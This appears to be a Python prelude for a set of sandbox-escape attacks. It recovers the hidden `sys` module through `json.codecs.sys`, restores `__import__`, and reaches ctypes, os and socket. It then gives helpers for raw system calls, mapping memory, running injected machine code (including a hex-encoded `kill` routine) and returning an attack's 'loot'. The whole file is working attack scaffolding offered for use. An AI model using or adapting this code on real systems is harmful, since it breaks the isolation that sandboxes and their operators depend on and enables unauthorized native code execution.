"""Put before every attack in Python: whatever native code could reach, without caring for the language layer."""

import json

# The guarded import is for friendly words; every module that was ever loaded can still be reached.
sys = json.codecs.sys  # type: ignore[attr-defined]  # an attribute that nobody was meant to use
builtins = sys.modules["builtins"]
__builtins__["__import__"] = builtins.__import__  # C code imports by what it finds here
ctypes = sys.modules["ctypes"]
os = sys.modules["os"]
socket = sys.modules["socket"]
time = sys.modules["time"]

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = libc.mmap.restype = ctypes.c_long
NUMBERS: dict[str, int] = {}
PATHS: list[str] = []


def call(name, *arguments):
    """Make a system call by its name; raises OSError when the kernel refuses it."""
    words = [ctypes.c_long(value) if isinstance(value, int) else value for value in arguments]
    result = libc.syscall(ctypes.c_long(NUMBERS[name]), *words)
    if result == -1:
        raise OSError(ctypes.get_errno(), f"{name}: {os.strerror(ctypes.get_errno())}")
    return result


def load(name):
    """Import a module by the interpreter's own path, which zygotes empty."""
    sys.path[:] = PATHS
    return builtins.__import__(name)


def text(data):
    """Return a zero-ended string for the kernel."""
    return ctypes.create_string_buffer(data if isinstance(data, bytes) else data.encode())


def memory(size_bytes, protection=3, flags=0x22, fd=-1):
    """Return the address of new private memory."""
    address = libc.mmap(None, ctypes.c_size_t(size_bytes), protection, flags, fd, ctypes.c_long(0))
    if address == -1:
        raise OSError(ctypes.get_errno(), "mmap")
    return address


def run_at(address, *arguments):
    """Call machine code."""
    return ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * len(arguments))(address)(*arguments)


def killing_code(data):
    """Return machine code of `kill(pid, signal)`, as a function."""
    return bytes.fromhex(data["killing_code"])


def frames():
    """Yield the frames of this process from the inside out."""
    frame = sys._getframe()
    while frame is not None:
        yield frame
        frame = frame.f_back


def process(data):
    """Run the attack, and return what it brings."""
    NUMBERS.update(data["numbers"])
    PATHS.extend(data["paths"])
    found = globals()["act"](data)  # the attack stands after this file
    return {"loot": found.decode("utf-8", "replace") if isinstance(found, bytes) else found}
